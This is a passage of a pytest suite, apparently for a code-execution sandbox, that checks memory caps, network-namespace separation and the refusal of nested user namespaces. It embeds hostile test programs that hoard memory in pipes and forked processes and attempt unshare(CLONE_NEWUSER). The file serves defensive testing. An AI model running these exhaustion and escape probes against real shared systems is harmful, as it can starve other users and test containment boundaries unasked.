    (ok, error, held), (ok2, _, nxt) = out['results']
    assert not ok and error.startswith('memory limit (64 MB) exceeded') and 'in socket buffers' in error, out['results']
    assert (ok2, nxt) == (True, 'next'), out['results']

PIPE_HOG = r'''
import fcntl, os, time
MB = %r
def run():
    pipes, held = [], 0
    while held < MB * 2**20:                         # pipes written to and never read: their pages are the kernel's
        try: r, w = os.pipe()
        except OSError: break
        pipes.append((r, w)); os.set_blocking(w, False)
        try: fcntl.fcntl(w, 1031, 2**20)             # F_SETPIPE_SZ: 1 MB each, within the kernel's per-user quota
        except OSError: pass
        try:
            while True: held += os.write(w, b"x" * 65536)
        except OSError: pass
    time.sleep(3)
    for fd in (fd for pair in pipes for fd in pair): os.close(fd)   # the control's too: the quota is its user's
    return held // 2**20
'''


@pytest.mark.parametrize('mode', I.CONFINING)
def test_no_pipe_hides_from_the_memory_meter(mode):
    "A normal user's meter counts pipes: 60 MB waiting in pipes against memory_mb=32 is stopped (as root the cgroup charges pipe pages)."
    # nothing preloaded: the meter's margin is what the zygote holds, and pipes past the kernel's per-user quota (64 MB
    # by default) get 8 kB each, so 60 MB is as much as one process can queue
    out = _sequence(mode, 'normal user', [(PIPE_HOG, 60), ("def run(): return %r", "next")], controls=[(PIPE_HOG, 60)],
                    memory_mb=32, tmp_mb=16, preload=[])
    assert out["controls"][0] >= 60, out['controls']                   # unconfined, nothing stops it
    (ok, error, held), (ok2, _, nxt) = out['results']
    assert not ok and error.startswith('memory limit (32 MB) exceeded'), out['results']
    assert (ok2, nxt) == (True, 'next'), out['results']

NET_LEAVE = r'''
import socket
N = %r
def run():
    srv, made = socket.socket(), 0
    try: srv.bind(("127.0.0.1", 0)); srv.listen(4)
    except OSError: return made
    for _ in range(N):                               # closed connections stay in TIME_WAIT for a minute, if they can
        try:
            c = socket.create_connection(srv.getsockname(), timeout=1); a, _ = srv.accept()
            c.sendall(b"secret"); a.recv(6); c.close(); a.close(); made += 1
        except OSError: pass
    return made
'''
NET_LOOK = r'''
FILES = %r
def run():
    rows = []
    for f in FILES:
        try: rows += open(f).read().splitlines()[1:]
        except OSError: pass
    return len(rows)
'''


@pytest.mark.parametrize('role', ROLES)
@pytest.mark.parametrize('mode', I.CONFINING)
def test_no_network_state_reaches_the_next_program(mode, role):
    "Connections a program closes on the loopback (TIME_WAIT) are not in the next program's /proc/net: a namespace each."
    tables = ["/proc/net/tcp", "/proc/net/tcp6", "/proc/net/udp", "/proc/net/udp6"]
    out = _sequence(mode, role, [(NET_LEAVE, 10), (NET_LOOK, tables)])
    (ok1, e1, made), (ok2, e2, rows) = out['results']
    assert ok1 and ok2, out['results']
    assert rows == 0, out['results']                                     # the next program starts with no socket at all


NEWUSER = r'''
import ctypes, errno, os
def run():
    libc = ctypes.CDLL(None, use_errno=True)
    pid = os.fork()                                  # in a child, so that the control leaves its caller as it was
    if pid == 0: os._exit(0 if libc.unshare(%r) == 0 else ctypes.get_errno())
    code = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
    return 'made' if code == 0 else errno.errorcode.get(code, code)
'''


@pytest.mark.parametrize('role', ROLES)
@pytest.mark.parametrize('mode', I.CONFINING)
def test_no_nested_user_namespace_without_seccomp(mode, role):
    "With the seccomp filter left out (as off x86-64): unshare(CLONE_NEWUSER) is refused by the sandbox's user namespace's own limit."
    out = _sequence(mode, role, [(NEWUSER, 0x10000000), (NEWUSER, 0x10000000 | 0x20000)],
                    controls=[(NEWUSER, 0x10000000)], no_seccomp=True)
    assert out['controls'] == ['made'], out['controls']                                 # outside, the caller may
    assert not any('seccomp' in l for l in out['layers']), out['layers']
    assert [r[2] for r in out['results']] == ['ENOSPC', 'ENOSPC'], out['results']


def test_the_isolation_tests_pass_from_a_checkout_under_tmp(tmp_path_factory):
    "Many CI runners check out under /tmp: this file's file attacks and the above, rerun from a copy of the checkout (venv included) there."
    if str(ROOT).startswith(('/tmp/', '/dev/shm/')) or os.environ.get('UGTTT_COPIED_CHECKOUT'):
        pytest.skip('already running from a checkout under /tmp')
    if os.getuid() != 0 or not os.path.isdir(ROOT / '.venv'): pytest.skip('needs root and the project venv')
    copy = Path(tempfile.mkdtemp(prefix='ugttt-checkout-', dir='/tmp'))
    try:
        os.chmod(copy, 0o755)                                        # the normal-user tests read it as uid 65534
        for name in ('ugttt', 'tests', 'pytest.ini', 'settings.ini', 'setup.py'):
            src = ROOT / name
            (shutil.copytree(src, copy / name, ignore=shutil.ignore_patterns('__pycache__', '.ugttt-isolation-test-*'))
             if src.is_dir() else shutil.copy2(src, copy / name))
        p = subprocess.run(['cp', '-al', str(ROOT / '.venv'), str(copy / '.venv')], capture_output=True, text=True)   # links: cheap
        if p.returncode != 0: shutil.copytree(ROOT / '.venv', copy / '.venv', symlinks=True)
        env = {**os.environ, 'UGTTT_COPIED_CHECKOUT': '1', 'HF_HUB_OFFLINE': '1'}
        p = subprocess.run([str(copy / '.venv' / 'bin' / 'python'), '-m', 'pytest', '-q', '-p', 'no:cacheprovider',
                            'tests/test_isolation.py', '-k', 'file_attacks or moved or new_tmp or sockets'],
                           cwd=copy, env=env, capture_output=True, text=True, timeout=900)
        tail = p.stdout[-3000:] + p.stderr[-2000:]
        assert p.returncode == 0 and ' passed' in tail, tail
        assert f'{copy}/ugttt' in subprocess.run([str(copy / '.venv' / 'bin' / 'python'), '-c', 'import ugttt; print(ugttt.__file__)'],
                                                 cwd=copy, capture_output=True, text=True).stdout   # the copy's package was tested
    finally: shutil.rmtree(copy, ignore_errors=True)


HOG = r'''
import os, signal, time
N, MB, HOLD = %r
def run():
    import numpy as np
    kids = []
    for i in range(N):                               # N processes of MB each, and a memfd of MB
        r, w = os.pipe()
        pid = os.fork()
        if pid == 0:
            a = np.ones(MB * 2**20 // 8); os.write(w, b'x'); time.sleep(HOLD); os._exit(0)
        os.close(w); os.read(r, 1); os.close(r); kids.append(pid)
    fd = os.memfd_create('hog'); os.write(fd, b'x' * (MB * 2**20))
    # PSS, not RSS: each child shares the parent's pages (its interpreter and numpy, about 60 MB) copy-on-write, which
    # summed RssAnon would count once per child; a child the out-of-memory killer took is a zombie and counts nothing
    def pss(p):
        try: return sum(int(l.split()[1]) for l in open(f'/proc/{p}/smaps_rollup') if l.startswith('Pss:'))
        except ProcessLookupError: return 0
    held = sum(pss(p) for p in kids) // 1024 + MB
    for p in kids: os.kill(p, signal.SIGKILL); os.waitpid(p, 0)
    return held
'''


@pytest.mark.parametrize('role', ROLES)
@pytest.mark.parametrize('mode', I.CONFINING)
def test_memory_is_capped_across_a_programs_processes(mode, role):
    "memory_mb=128: as a normal user the zygote's meter stops the processes together, as root the memory cgroup."
    out = _sequence(mode, role, [(HOG, (12, 100, 30)), ('def run(): return %r', 'next')], controls=[(HOG, (4, 100, 30))],
                    memory_mb=128, tmp_mb=16)
    assert out['controls'][0] >= 4 * 100, out['controls']                              # unconfined: 500 MB held
    (ok, error, held), (ok2, _, nxt) = out['results']
    if role == 'root' and any('memory cgroup' in l for l in out['layers']):
        # the kernel holds the worker's cgroup (its zygote too) to memory_mb + 2 tmp_mb + 768 MB (ugttt.sandbox.worker):
        # its out-of-memory killer takes children until the rest fit, or the program itself
        assert not ok or held <= 128 + 2 * 16 + 768, out['results']
    else:
        assert any('memory meter' in l for l in out['layers']), out['layers']
        assert not ok and error.startswith('memory limit (128 MB) exceeded: its processes held'), out['results']
    assert (ok2, nxt) == (True, 'next'), out['results']
